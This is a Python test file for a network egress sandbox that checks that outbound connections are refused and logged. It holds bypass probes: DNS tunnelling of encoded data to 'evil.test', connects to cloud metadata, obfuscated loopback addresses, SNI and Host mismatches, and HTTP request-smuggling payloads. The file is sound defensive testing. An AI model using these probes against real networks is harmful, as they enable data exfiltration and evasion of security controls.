# SPDX-License-Identifier: Apache-2.0
"""What is not allowed is refused, at once, with its reason, recorded, and
nothing of it is seen outside."""
import base64

from harness import check, silent
from lab import EVIL, GOOD

TIMED = """
import socket, time
def tried(kind, address, port, send=b"x"):
    began = time.monotonic()
    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
    try:
        s.connect((address, port))
        if kind == socket.SOCK_DGRAM:
            s.send(send); s.recv(10)
        return "CONNECTED"
    except OSError as e:
        took = time.monotonic() - began
        return f"refused {type(e).__name__}" if took < 1 else f"HUNG {took}"
"""


def refused(run, n):
    check(run.status == 0 and run.out.count("refused ") == n
          and "HUNG" not in run.out and "CONNECTED" not in run.out, run)


def test_other_host_by_proxy(case):
    run = case.run("curl", "-s", "-w", "%{http_connect}", "https://evil.test/")
    check("403" in run.out, run)
    check(run.denied("not_in_policy", "evil.test"), run.records)
    check("--allow evil.test" in run.err, run)
    run = case.run("curl", "-si", "http://evil.test/")
    check("403" in run.out and "Proxy-Status:" in run.out
          and "not_in_policy" in run.out and "--allow evil.test" in run.out, run)
    silent(case)


def test_other_host_direct(case):
    before = len(case.lab.packets("port 53"))
    run = case.run("curl", "-sS", "https://evil.test/", proxy=False)
    check(run.status == 6, run)
    check(run.denied("not_in_policy", "evil.test"), run.records)
    check(len(case.lab.packets("port 53")) == before, "asked upstream")


def test_socks_refusal(case):
    run = case.run("sh", "-c", "curl -sv -x socks5h://${http_proxy#http://} "
                   "https://evil.test/ 2>&1")
    check(run.status == 97 and run.denied("not_in_policy", "evil.test"), run)


def test_empty_policy(case):
    run = case.run("curl", "-s", "-w", "%{http_connect}",
                   "https://allowed.test/", allow=())
    check("403" in run.out, run)


def test_raw_tcp(case):
    run = case.python(TIMED + f"""
for a, p in (("8.8.8.8", 443), ("{EVIL}", 80), ("{GOOD}", 443), ("1.1.1.1", 853),
             ("203.0.113.2", 22), ("203.0.113.1", 80), ("169.254.169.254", 80),
             ("198.18.0.200", 443), ("10.0.0.1", 22)):
    print(a, p, tried(socket.SOCK_STREAM, a, p))
""")
    refused(run, 9)
    check(run.denied("bypass"), run.records)
    silent(case)


def test_raw_udp(case):
    run = case.python(TIMED + f"""
for a, p in (("8.8.8.8", 9999), ("8.8.8.8", 443), ("{EVIL}", 123),
             ("{GOOD}", 4500), ("255.255.255.255", 67)):
    try: print(a, p, tried(socket.SOCK_DGRAM, a, p))
    except PermissionError: print("refused x")
""")
    check("CONNECTED" not in run.out and run.out.count("refused ") >= 4, run)
    check(run.denied("bypass"), run.records)
    silent(case)


def test_leased_address_other_port(case):
    run = case.python(TIMED + """
a = socket.gethostbyname("allowed.test")
for p in (22, 8443, 3129, 53000):
    print(a, p, tried(socket.SOCK_STREAM, a, p))
print(tried(socket.SOCK_DGRAM, a, 443))
""")
    refused(run, 5)


def test_gateway_ports(case):
    """Only the resolver and the proxy answer there."""
    code = TIMED + """
import os
gw = os.environ["http_proxy"].split("//")[1].split(":")[0]
open_ports = [p for p in list(range(1, 4200)) + [8080, 9090, 40000, 65535]
              if tried(socket.SOCK_STREAM, gw, p) == "CONNECTED"]
print("open", open_ports)
"""
    run = case.python(code, timeout=120)
    check("open [53, 3128]" in run.out, run)


def test_other_addresses_of_the_machine(case):
    run = case.python(TIMED + """
for a in ("127.0.0.1", "127.0.0.53", "198.19.0.2", "0.0.0.0"):
    print(a, tried(socket.SOCK_STREAM, a, 3129))
""")
    refused(run, 4)


def test_ipv6(case):
    run = case.python("""
import socket
s = socket.socket(socket.AF_INET6)
try: s.connect(("2606:2800:220:1::34", 443)); print("CONNECTED")
except OSError as e: print("refused", e)
print(open("/proc/net/if_inet6").read().count("eth0"), "addresses")
""")
    check("refused" in run.out and "0 addresses" in run.out, run)


def test_icmp(case):
    run = case.python("""
import socket
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(2)
        s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("8.8.8.8", 0))
        print("ANSWER", s.recv(100)[20:21] if kind == socket.SOCK_RAW else s.recv(100)[:1])
    except OSError as e: print("refused", e)
""")
    check(run.out.count("refused") == 2, run)
    silent(case)


def test_dns_tunnel(case):
    before = len(case.lab.packets("port 53"))
    labels = [base64.b32encode(bytes([i] * 20)).decode().strip("=").lower()
              for i in range(20)]
    run = case.run("sh", "-c", "; ".join(
        f"dig +tries=1 +time=30 {l}.evil.test TXT | grep status" for l in labels))
    check(run.out.count("NXDOMAIN") == 20, run)
    check(len(case.lab.packets("port 53")) == before, "asked upstream")
    check(len(run.denied("not_in_policy")) >= 20, run.records)


def test_dns_tunnel_below_wildcard(case):
    """Labels under an allowed wildcard leak a bounded number of names."""
    before = len(case.lab.packets("port 53"))
    run = case.run("sh", "-c", "for i in $(seq 150); do dig +tries=1 +time=30 "
                   "+short n$i.tunnel.test; done | wc -l",
                   allow=("*.tunnel.test",))
    check(run.denied("limit_names"), run.records[-5:])
    leaked = len(case.lab.packets("port 53 and udp and dst host 93.184.216.53"))
    check(leaked - before <= 64 * 4 + 8, (before, leaked))


def test_dns_types(case):
    for kind in "TXT", "MX", "HTTPS", "SVCB", "SRV", "NULL", "CAA":
        before = len(case.lab.packets("port 53"))
        run = case.run("dig", "+tries=1", "+time=30", "allowed.test", kind)
        check("status: NOERROR" in run.out and "ANSWER: 0" in run.out, run)
        check(len(case.lab.packets("port 53")) == before, f"{kind} upstream")


def test_dns_ede(case):
    run = case.run("dig", "evil.test")
    check("EDE: 15" in run.out and "not_in_policy" in run.out, run)


def test_dns_special_names(case):
    for name, want in (("use-application-dns.net", "NXDOMAIN"),
                       ("8.8.8.8.in-addr.arpa", "NXDOMAIN")):
        run = case.run("dig", name, "PTR" if "arpa" in name else "A")
        check(want in run.out, run)


def test_private_answers(case):
    for name in "private", "metadata", "loop", "mapped", "uplink":
        run = case.run("curl", "-si", f"http://{name}.test/",
                       allow=(f"{name}.test",))
        check("forbidden_address" in run.out, run)
        check(run.denied("forbidden_address"), run.records)
    check(not case.lab.packets("dst host 10.1.2.3 or dst host 169.254.169.254"))


def test_mixed_answers(case):
    run = case.run("curl", "-s", "http://mixed.test/", allow=("mixed.test",))
    check("hello" in run.out, run)
    check(not case.lab.packets("host 10.9.9.9"))


def test_sni_mismatch(case):
    """The shared host serves both; only one is allowed."""
    for proxy in True, False:
        run = case.run("curl", "-sk", "--connect-to",
                       "evilcdn.test:443:cdn.test:443",
                       "https://evilcdn.test/", allow=("cdn.test",), proxy=proxy)
        check(run.status != 0 and "hello" not in run.out, run)
        check(run.denied("name_mismatch"), run.records)
    tls = [p for p in case.lab.packets("dst host 93.184.216.40 and tcp[13] & 8 != 0")]
    check(not tls, tls)


def test_no_sni(case):
    run = case.run("sh", "-c", "openssl s_client -noservername -connect "
                   "allowed.test:443 </dev/null 2>&1 | head -5")
    check("alert" in run.out and run.denied("no_name"), run)


def test_host_mismatch(case):
    run = case.run("curl", "-si", "-H", "Host: evilcdn.test", "http://cdn.test/host",
                   allow=("cdn.test",))
    check("400" in run.out or "403" in run.out, run)
    run = case.run("curl", "-si", "-H", "Host: evilcdn.test", "http://cdn.test/host",
                   allow=("cdn.test",), proxy=False)
    check("HTTP/1.1 403" in run.out and run.denied("name_mismatch"), run)


def test_address_of_the_sandbox_is_not_used(case):
    """/etc/hosts style: the right name, an address of the sandbox's choice."""
    run = case.run("curl", "-sS", "--resolve", f"allowed.test:443:{EVIL}",
                   "https://allowed.test/", proxy=False)
    check(run.status != 0, run)
    silent(case)


def test_literal_addresses(case):
    spellings = [GOOD, "2130706433", "0x7f.1", "0177.0.0.1", "012.0.0.1",
                 "127.1", "0", "[::ffff:127.0.0.1]", "[2606:2800:220:1::34]"]
    code = f"""
import socket, os
gw, port = os.environ["http_proxy"].split("//")[1].split(":")
for name in {spellings!r}:
    s = socket.create_connection((gw, int(port)), 30)
    s.sendall(f"CONNECT {{name}}:443 HTTP/1.1\\r\\nHost: {{name}}:443\\r\\n\\r\\n".encode())
    print(name, s.recv(2000).split(b"\\r\\n")[0])
"""
    run = case.python(code)
    check(run.out.count("HTTP/1.1 40") == len(spellings), run)


def test_redirect_to_another_host(case):
    run = case.run("curl", "-sL", "http://allowed.test/move")
    check("not_in_policy" in run.out, run)
    silent(case)


def test_not_tls_on_443(case):
    code = """
import socket
s = socket.create_connection(("allowed.test", 443), 10)
s.sendall(b"SSH-2.0-OpenSSH_9\\r\\n")
try: print("got", s.recv(100))
except OSError as e: print("cut", e)
"""
    run = case.python(code)
    check("got b''" in run.out or "cut" in run.out or "x15" in run.out, run)
    check(run.denied("protocol"), run.records)


def test_bytes_after_a_denial(case):
    code = """
import socket, os
gw, port = os.environ["http_proxy"].split("//")[1].split(":")
s = socket.create_connection((gw, int(port)), 30)
s.sendall(b"CONNECT evil.test:443 HTTP/1.1\\r\\nHost: evil.test:443\\r\\n\\r\\n"
          b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n")
data = b""
while True:
    d = s.recv(65536)
    if not d: break
    data += d
print(data.count(b"HTTP/1.1 "), data.count(b"403"), data.count(b"hello"))
"""
    run = case.python(code)
    check(run.out.startswith("1 ") and run.out.rstrip().endswith(" 0"), run)


def test_malformed(case):
    code = r"""
import socket, os
gw, port = os.environ["http_proxy"].split("//")[1].split(":")
bad = [b"CONNECT evil.test\0.allowed.test:443 HTTP/1.1\r\n\r\n",
       b"CONNECT allowed.test..:443 HTTP/1.1\r\nHost: allowed.test..:443\r\n\r\n",
       b"CONNECT allowed.test:443@evil.test:443 HTTP/1.1\r\n\r\n",
       b"CONNECT [allowed.test]:443 HTTP/1.1\r\nHost: a\r\n\r\n",
       b"CONNECT allowed.test:0 HTTP/1.1\r\nHost: allowed.test:0\r\n\r\n",
       b"CONNECT allowed.test:99999 HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
       b"GET http://allowed.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
       b"GET http://allowed.test/ HTTP/1.1\r\nHost : allowed.test\r\n\r\n",
       b"GET http://allowed.test/ HTTP/1.1\nHost: allowed.test\n\n",
       b"GET http://u@allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
       b"POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
       b"POST http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
       b"GET ftp://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
       b"\x00\x01\x02\x03\r\n\r\n", b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"]
for text in bad:
    s = socket.create_connection((gw, int(port)), 15); s.settimeout(15)
    s.sendall(text)
    try: line = s.recv(2000).split(b"\r\n")[0]
    except OSError: line = b"closed"
    print(line.decode("latin1") or "closed", text)
"""
    run = case.python(code + "\nimport subprocess\nprint(subprocess.run(['curl',"
                      "'-s','https://allowed.test/'],capture_output=True).stdout)")
    check("HTTP/1.1 2" not in run.out and run.out.count("b'") >= 15, run)
    check("hello from the lab" in run.out, run)
    silent(case)


def test_local_options(case):
    """IP_TRANSPARENT, SO_MARK, raw and packet sockets, netlink changes."""
    run = case.python("""
import socket
def no(what, fn):
    try: fn(); print("DID", what)
    except OSError as e: print("refused", what, e)
s = socket.socket()
no("transparent", lambda: s.setsockopt(0, 19, 1))
no("mark", lambda: s.setsockopt(socket.SOL_SOCKET, 36, 1))
no("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
no("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 6))
""")
    check("DID" not in run.out and run.out.count("refused") == 4, run)
